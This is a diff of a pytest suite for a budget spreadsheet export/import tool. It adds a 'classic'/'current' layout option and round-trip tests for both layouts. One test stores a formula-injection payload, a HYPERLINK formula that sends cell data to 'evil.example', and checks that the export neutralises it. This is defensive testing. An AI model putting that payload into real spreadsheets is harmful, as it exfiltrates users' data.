@@ -94,7 +94,7 @@ def sheet_rows(path: Path) -> tuple[list, list[list]]:
 
 def test_export_writes_the_layout_the_import_reads(ops_db, tmp_path):
     out = tmp_path / "budget.xlsx"
-    result = export_lines(ops_db, out)
+    result = export_lines(ops_db, out, layout="classic")
     dataset = get_dataset("budget-workbook")
     book = openpyxl.load_workbook(out)
     assert book.sheetnames == [dataset.preferred_sheets[0]]
@@ -122,7 +122,7 @@ def test_export_writes_the_layout_the_import_reads(ops_db, tmp_path):
 
 
 def test_comments_only_with_include_pii(ops_db, tmp_path):
-    result = export_lines(ops_db, tmp_path / "pii.xlsx", include_pii=True)
+    result = export_lines(ops_db, tmp_path / "pii.xlsx", include_pii=True, layout="classic")
     header, rows = sheet_rows(tmp_path / "pii.xlsx")
     assert header[-1] == "Comments" and result["include_pii"] is True
     stored = stored_lines(ops_db)
@@ -143,20 +143,21 @@ def test_can_cell_is_what_reads_back_as_the_same_can(number, description, portfo
 
 # -- round trips --------------------------------------------------------------------------------
 
+@pytest.mark.parametrize("layout", ["classic", "current"])
 @pytest.mark.parametrize("pii", [False, True])
-def test_exported_workbook_submitted_unchanged_writes_nothing(ops_db, tmp_path, pii):
+def test_exported_workbook_submitted_unchanged_writes_nothing(ops_db, tmp_path, pii, layout):
     out = tmp_path / "budget.xlsx"
-    export_lines(ops_db, out, include_pii=pii)
+    export_lines(ops_db, out, include_pii=pii, layout=layout)
     before = snapshot(ops_db)
     counts = submit(out, ops_db, tmp_path / "runs")
     assert all(counts[k]["inserted"] == counts[k]["updated"] == counts[k]["rejected"] == 0 for k in KINDS), counts
-    assert counts["budget_line_item"]["unchanged"] == export_lines(ops_db, tmp_path / "again.xlsx")["lines"]
+    assert counts["budget_line_item"]["unchanged"] == export_lines(ops_db, tmp_path / "again.xlsx", layout=layout)["lines"]
     assert snapshot(ops_db) == before  # no data, no history, no audit stamps
 
 
 def test_one_amount_and_one_status_edited_update_exactly_those_lines(ops_db, tmp_path):
     out = tmp_path / "budget.xlsx"
-    export_lines(ops_db, out)
+    export_lines(ops_db, out, layout="classic")
     book = openpyxl.load_workbook(out)
     sheet = book.active
     amount_row, status_row = sheet[2], sheet[3]
@@ -176,6 +177,23 @@ def test_one_amount_and_one_status_edited_update_exactly_those_lines(ops_db, tmp
     assert changed == {amount_id, status_id}
 
 
+def test_in_the_current_layout_one_edited_amount_updates_only_that_line(ops_db, tmp_path):
+    out = tmp_path / "current.xlsx"
+    assert export_lines(ops_db, out)["layout"] == "current"  # the layout budget staff keep today
+    book = openpyxl.load_workbook(out)
+    sheet = book.active
+    at = {cell.value: i for i, cell in enumerate(sheet[1])}
+    line_id = sheet[2][at["BL ID #"]].value
+    sheet[2][at["SubTotal"]].value = 12345.67
+    book.save(out)
+    before = stored_lines(ops_db)
+    counts = submit(out, ops_db, tmp_path / "runs")
+    assert counts["budget_line_item"]["updated"] == 1 and counts["budget_line_item"]["inserted"] == 0, counts
+    after = stored_lines(ops_db)
+    assert after[line_id][0] == Decimal("12345.67")
+    assert {i for i in before if before[i] != after[i]} == {line_id}
+
+
 def test_formula_like_text_is_inert_and_reads_back_as_it_was(ops_db, tmp_path):
     engine = make_engine(ops_db)
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -185,7 +203,7 @@ def test_formula_like_text_is_inert_and_reads_back_as_it_was(ops_db, tmp_path):
                      .values(line_description=hostile, comments="@SUM(1+1)"))
     engine.dispose()
     out = tmp_path / "budget.xlsx"
-    result = export_lines(ops_db, out, include_pii=True)
+    result = export_lines(ops_db, out, include_pii=True, layout="classic")
     assert result["quoted"] == 2
     xml = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in xml  # no formula anywhere in the file
@@ -218,7 +236,7 @@ def test_filters(ops_db, tmp_path):
 
     def ids(**kwargs):
         out = tmp_path / "f.xlsx"
-        export_lines(ops_db, out, filters=Filters(**kwargs))
+        export_lines(ops_db, out, filters=Filters(**kwargs), layout="classic")
         return {r[1] for r in sheet_rows(out)[1]}
 
     assert ids(fiscal_years=(year,)) == {r.id for r in rows if r.date_needed and fiscal_year(r.date_needed) == year}
@@ -237,7 +255,7 @@ def test_export_of_a_run_is_what_it_loaded(loaded, ops_db, tmp_path):
          dt.date(2025, 3, 2), 200, None, "draft", None],
     ])
     outcome = run_pipeline(str(small), runs_root=tmp_path / "runs", db_url=ops_db)
-    result = export_lines(ops_db, tmp_path / "run.xlsx", run=outcome.run)
+    result = export_lines(ops_db, tmp_path / "run.xlsx", run=outcome.run, layout="classic")
     _, rows = sheet_rows(tmp_path / "run.xlsx")
     assert result["lines"] == 2 and [r[5] for r in rows] == ["one line", "two line"]
     assert result["run"] == outcome.run.run_id
@@ -382,7 +400,7 @@ def test_lines_of_an_administrative_project_round_trip(ops_db, tmp_path):
                      {"i": project})
     engine.dispose()
     out = tmp_path / "budget.xlsx"
-    export_lines(ops_db, out)
+    export_lines(ops_db, out, layout="classic")
     before = snapshot(ops_db)
     counts = submit(out, ops_db, tmp_path / "runs")
     assert counts["project"]["rejected"] == 0 and counts["project"]["updated"] == 0
